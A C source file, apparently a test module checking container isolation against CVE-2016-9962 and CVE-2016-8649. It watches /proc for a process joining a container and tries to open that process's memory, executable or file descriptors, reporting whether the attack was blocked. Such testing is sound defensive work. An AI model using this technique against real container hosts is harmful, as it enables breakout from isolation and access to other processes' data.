/* SPDX-License-Identifier: MIT */
/*
 * CVE-2016-9962, CVE-2016-8649: reach what joins the container from outside, before it has executed
 * its command.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static bool joins(const char *pid)
{
    char path[300], name[32];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = *pid >= '2' && *pid <= '9' ? open(path, O_RDONLY) : -1;
    ssize_t n = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    name[n > 0 ? n : 0] = '\0';
    return strcmp(name, "scratch-init\n") == 0;
}

/* Its memory, or anything that it has open. */
static bool take(const char *pid)
{
    static const char *const files[] = {"mem", "exe", "fd/3", "fd/4", "cwd"};
    char path[300], text[64];
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
        int fd = open(path, O_RDONLY);
        if (fd >= 0 || readlink(path, text, sizeof text) > 0) {
            printf("%s\n", files[i]);
            return true;
        }
    }
    return false;
}

/* joiner; for as long as it takes three seconds */
int attack_joiner(char **argv)
{
    DIR *proc = opendir("/proc");
    time_t end = time(NULL) + 3;
    bool seen = false;
    (void)argv;
    if (!proc)
        return attack_not_tried("/proc");
    if (write(STDOUT_FILENO, "ready\n", 6) != 6)
        return attack_not_tried("say that it began");
    while (time(NULL) < end) {
        rewinddir(proc);
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (!joins(entry->d_name))
                continue;
            seen = true;
            if (take(entry->d_name) && joins(entry->d_name)) /* and is no command by now */
                return ATTACK_OUT;
        }
    }
    errno = EACCES;
    return seen ? attack_held("reach the one that joins") : attack_not_tried("none was seen");
}
